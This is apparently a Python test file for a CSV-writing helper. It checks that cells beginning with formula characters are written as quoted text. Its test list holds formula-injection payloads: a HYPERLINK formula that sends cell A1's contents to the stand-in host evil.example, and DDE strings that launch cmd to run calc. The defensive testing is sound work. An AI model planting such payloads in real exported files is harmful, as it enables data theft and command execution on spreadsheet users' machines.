"""The kit's CSV writer: cells a spreadsheet would run as formulas are written as text."""

import csv
import io

import pytest

from services.common.csvsafe import cell, csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_become_text(value: str) -> None:
    written = list(csv.reader(io.StringIO(csv_text(["name"], [[value]]))))
    assert written == [["name"], ["'" + value]]


@pytest.mark.parametrize("value", ["Lake County SPOC", "a=b", "x@example.org", "(916) 555-0100"])
def test_ordinary_values_stay_as_they_are(value: str) -> None:
    assert cell(value) == value


def test_none_is_an_empty_cell_and_the_header_is_neutralised_too() -> None:
    assert cell(None) == "" and cell(0) == "0"
    assert csv_text(["=x"], []).strip() == "'=x"
